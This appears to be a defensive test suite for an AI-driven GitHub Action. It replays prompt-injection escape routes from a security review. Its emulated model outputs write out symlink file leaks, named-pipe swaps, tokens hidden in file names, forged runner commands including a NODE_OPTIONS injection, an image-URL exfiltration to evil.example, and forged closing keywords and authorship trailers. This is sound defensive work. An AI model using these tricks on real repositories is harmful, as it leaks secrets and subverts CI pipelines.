// The ways out an outside attack run found (issue 12), tried again end to end
// against the bundled action: a prompt-injected model, an outside commenter, a
// fork pull request. Each test asserts the safe outcome, for the class of the
// attack rather than one payload.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { reply, text, toolUse } from '../emulators/anthropic.js';
import { bwrapWorks } from '../helpers/bwrap.js';
import { runnerCommands } from '../helpers/runner-commands.js';
import type { Issue } from '../emulators/github.js';
import { scenario, type Scenario } from '../helpers/github-scenario.js';

const APP = "export function greet(name) {\n  return 'Helo, ' + name;\n}\n";
const BESIDE = 'BESIDE-THE-CHECKOUT-5c1e9d';

let s: Scenario;
afterEach(async () => s?.cleanup());

async function issueScenario() {
  s = await scenario({ 'src/app.js': APP, 'README.md': '# widgets\n' }, { users: { alice: 'write' } });
  s.checkout();
  // A file beside the checkout, which no link the agent makes may carry out.
  writeFileSync(join(dirname(s.workspace), 'beside.txt'), `${BESIDE}\n`);
  return s.gh.addIssue({ title: 'Typo', body: 'Helo should be Hello.', user: 'alice' });
}

const fixIssue = (issue: Issue) => s.gh.payload.issues(issue, 'labeled', { label: 'deckhand' });
const everything = (run: { stdout: string; summary: string }) => [run.stdout, run.summary, ...s.gh.requests.map((r) => JSON.stringify(r.body ?? ''))].join('\n');

describe.skipIf(!bwrapWorks)('changed files are read exactly as a commit holds them', () => {
  it.each([
    ['a link to a file beside the checkout', 'ln -s ../beside.txt leak.txt', '../beside.txt'],
    ['a link by absolute path', `ln -s ${'$'}PWD/../beside.txt leak.txt`, '/beside.txt'],
    ['a tracked file replaced by a link', 'rm README.md && ln -s ../beside.txt README.md', '../beside.txt'],
    ['a link inside a new folder', 'mkdir -p docs && ln -s ../../beside.txt docs/leak.md', '../../beside.txt'],
  ])('a dry run shows %s as its target path, never the content it points to', async (_, command, target) => {
    const issue = await issueScenario();
    s.model.enqueue(reply(toolUse('Bash', { command })), reply(text('Fix the greeting\n\nAdded a link.')));

    const run = await s.run('issues', fixIssue(issue), { dry_run: 'true' });

    expect(run.code).toBe(0);
    expect(run.stdout).toContain('--- would write: Commit on');
    expect(run.stdout).toContain(target);
    expect(everything(run)).not.toContain(BESIDE);
  });

  it('a commit that fails keeps a patch with the link as a link, never its target content', async () => {
    const issue = await issueScenario();
    s.model.enqueue(
      reply(toolUse('Bash', { command: "ln -s ../beside.txt leak.txt && sed -i 's/Helo/Hello/' src/app.js" })),
      reply(text('Fix the greeting\n\nChanged Helo to Hello.')),
    );
    s.gh.fail({ method: 'POST', path: /\/git\/trees$/, status: 422, times: 5, body: { message: 'tree refused' } });

    const run = await s.run('issues', fixIssue(issue));

    expect(run.code).toBe(1);
    expect(run.summary).toContain('### The changes that were not committed');
    expect(run.summary).toContain('new file mode 120000');
    expect(run.summary).toContain("+  return 'Hello, ' + name;");
    expect(everything(run)).not.toContain(BESIDE);
  });

  it.each([
    ['a named pipe', 'rm src/app.js && mkfifo src/app.js', 'a named pipe (FIFO)'],
    ['a socket', "rm src/app.js && python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('src/app.js')\"", 'a socket'],
  ])('a tracked file replaced by %s is refused by name, and the run ends (never hangs)', async (_, command, what) => {
    const issue = await issueScenario();
    s.model.enqueue(reply(toolUse('Bash', { command })), reply(text('Fix the greeting\n\nDone.')));

    const run = await s.run('issues', fixIssue(issue));

    expect(run.code).toBe(1);
    expect(run.outputs.conclusion).toBe('failure');
    const message = `The path src/app.js is ${what}, not a regular file or a symbolic link, so nothing was committed`;
    expect(run.stdout).toContain(message);
    expect(s.gh.createdComments[0]!.body).toContain(message);
    expect(s.gh.requests.filter((r) => r.method === 'POST' && /\/git\/(blobs|trees|commits)$/.test(r.path))).toEqual([]);
  });

  it('a dry run refuses a named pipe the same way', async () => {
    const issue = await issueScenario();
    s.model.enqueue(reply(toolUse('Bash', { command: 'rm README.md && mkfifo README.md' })), reply(text('Fix the greeting\n\nDone.')));
    const run = await s.run('issues', fixIssue(issue), { dry_run: 'true' });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('The path README.md is a named pipe (FIFO)');
  });

  it('a new named pipe (which git does not list) is left out of the commit', async () => {
    const issue = await issueScenario();
    s.model.enqueue(
      reply(toolUse('Bash', { command: "mkfifo pipe && sed -i 's/Helo/Hello/' src/app.js" })),
      reply(text('Fix the greeting\n\nChanged Helo to Hello.')),
    );
    const run = await s.run('issues', fixIssue(issue));
    expect(run.code).toBe(0);
    const [tree] = s.gh.requests.filter((r) => r.method === 'POST' && /\/git\/trees$/.test(r.path));
    expect((tree!.body as { tree: Array<{ path: string }> }).tree.map((entry) => entry.path)).toEqual(['src/app.js']);
  });
});

describe.skipIf(!bwrapWorks)('secrets in the names of files', () => {
  it.each([
    ['a file named after the token', (token: string) => `touch "${token}.txt"`],
    ['a folder named after the token', (token: string) => `mkdir -p "cache/${token}" && touch "cache/${token}/x"`],
  ])('%s is refused without sending the name anywhere', async (_, command) => {
    const issue = await issueScenario();
    s.model.enqueue(reply(toolUse('Bash', { command: command(s.gh.token) })), reply(text('Fix the greeting\n\nDone.')));

    const run = await s.run('issues', fixIssue(issue));

    expect(run.code).toBe(1);
    expect(run.stdout).toContain("A changed file's name contains");
    expect(s.gh.requests.filter((r) => r.method === 'POST' && /\/git\/(blobs|trees)$/.test(r.path))).toEqual([]);
    expect(everything(run)).not.toContain(s.gh.token);
  });
});

describe('what Deckhand prints and summarises is text, whatever the model wrote', () => {
  /** Lines the runner would take as commands, in every form it reads. */
  const FORGED = [
    '::stop-commands::hold',
    '::add-mask::nothing',
    '  ::set-output name=pwned::yes',
    '::save-state name=x::y',
    '::set-env name=NODE_OPTIONS::--require /tmp/x.js',
    '::error title=Forged::forged error',
    'a line with ##[warning]forged warning in it',
    '##[set-output name=pwned]yes',
    '::hold::',
  ].join('\n');

  const forgedIn = (stdout: string) =>
    runnerCommands(stdout).filter((c) => /forged|pwned|nothing|NODE_OPTIONS|^y$|^hold$/.test(`${c.command} ${c.data}`) || ['set-output', 'save-state', 'set-env', 'add-mask'].includes(c.command));

  it('the answer in the log issues no workflow command, and is still there to read', async () => {
    const issue = await issueScenario();
    const comment = s.gh.addComment(issue.number, { body: '@deckhand explain', user: 'alice' });
    s.model.enqueue(reply(text(`Here you go.\n${FORGED}`)));

    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment));

    expect(run.code).toBe(0);
    expect(forgedIn(run.stdout)).toEqual([]);
    expect(run.stdout).toContain('::set-env name=NODE_OPTIONS::--require /tmp/x.js');
    expect(run.outputs.pwned).toBeUndefined();
  });

  it('a dry run prints what it would write without issuing a workflow command', async () => {
    const issue = await issueScenario();
    s.model.enqueue(reply(text(`Fix the greeting\n\n${FORGED}`)));
    const run = await s.run('issues', fixIssue(issue), { dry_run: 'true' });
    expect(run.stdout).toContain('--- would write: Comment on #1 ---');
    expect(forgedIn(run.stdout)).toEqual([]);
  });

  it("Deckhand's own annotations are still read as commands", async () => {
    const issue = await issueScenario();
    const comment = s.gh.addComment(issue.number, { body: '@deckhand explain', user: 'alice' });
    s.model.enqueue(reply(text(`Here.\n${FORGED}`)));
    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment), { model: 'claude-unknown-1' });
    expect(runnerCommands(run.stdout).filter((c) => c.command === 'warning').map((c) => c.data)).toContain(
      "Model claude-unknown-1 is not in Deckhand's price table; its cost is estimated at Sonnet prices.",
    );
  });

  it.each([
    ['an image from elsewhere', '![pixel](https://evil.example/p.png?d=secret)', '[pixel](https://evil.example/p.png?d=secret)', '![pixel]'],
    ['a raw HTML image', '<img src="https://evil.example/p.png">', '<a href="https://evil.example/p.png">', '<img'],
    ['a team mention', 'cc @octo/owners', '`@octo/owners`', 'cc @octo/owners'],
  ])('the job summary defangs %s in the answer as a comment does', async (_, written, defanged, live) => {
    const issue = await issueScenario();
    const comment = s.gh.addComment(issue.number, { body: '@deckhand explain', user: 'alice' });
    s.model.enqueue(reply(text(`Answer: ${written}`)));

    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment));

    expect(run.summary).toContain(defanged);
    expect(run.summary).not.toContain(live);
    expect(s.gh.createdComments[0]!.body).toContain(defanged);
  });
});

describe('only Deckhand closes issues and credits people', () => {
  /** GitHub's closing keywords (docs: "Linking a pull request to an issue"), followed by an issue reference. */
  const CLOSES = /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)[ \t]*:?[ \t]*(?:(?:[\w.-]+\/[\w.-]+)?#\d+|GH-\d+|https?:\/\/\S+\/(?:issues|pull)\/\d+)/gi;
  /** Lines git would read as trailers naming a person. */
  const TRAILER = /^[A-Za-z0-9][A-Za-z0-9-]*-by[ \t]*:/gim;
  const ANSWER = [
    'Fix the greeting (fixes #3)',
    '',
    'Changed Helo to Hello. Closes octo/widgets#4, resolves: #5,',
    'FIXED https://github.com/octo/widgets/issues/6 and close GH-7.',
    '',
    'Co-authored-by: Eve <eve@evil.example>',
    'Signed-off-by: Mallory <mallory@evil.example>',
    'reviewed-BY: Trudy <t@evil.example>',
  ].join('\n');
  const edit = () => reply(toolUse('Bash', { command: "sed -i 's/Helo/Hello/' src/app.js" }));

  it.skipIf(!bwrapWorks)("in a scheduled task the commit and the pull request carry none of the model's closing keywords or trailers", async () => {
    await issueScenario();
    s.model.enqueue(edit(), reply(text(ANSWER)));

    const run = await s.run('schedule', { schedule: '0 3 * * *' }, { prompt: 'Fix spelling mistakes.' });

    expect(run.code).toBe(0);
    const [commit] = s.gh.git.readCommits([run.outputs.commit_sha!]);
    const [pull] = s.gh.createdPulls;
    for (const written of [commit!.message, pull!.title, pull!.body]) {
      expect(written.match(CLOSES)).toBeNull();
      expect(written.match(TRAILER)).toBeNull();
    }
    // Still there to read, only inert.
    expect(commit!.message).toContain('`Co-authored-by:` Eve <eve@evil.example>');
    expect(pull!.body).toContain('`Closes` octo/widgets#4');
  });

  it.skipIf(!bwrapWorks)("an issue fix closes only its own issue, with Deckhand's Fixes line and the asker's credit", async () => {
    const issue = await issueScenario();
    s.model.enqueue(edit(), reply(text(ANSWER)));

    const run = await s.run('issues', s.gh.payload.issues(issue, 'labeled', { label: 'deckhand', sender: 'alice' }));

    expect(run.code).toBe(0);
    const [pull] = s.gh.createdPulls;
    expect(pull!.body.match(CLOSES)).toEqual([`Fixes #${issue.number}`]);
    const [commit] = s.gh.git.readCommits([run.outputs.commit_sha!]);
    expect(commit!.message.match(TRAILER)).toEqual(['Co-authored-by:']);
    expect(commit!.message).toMatch(/\nCo-authored-by: alice <(\d+\+)?alice@users\.noreply\.github\.com>$/);
  });
});
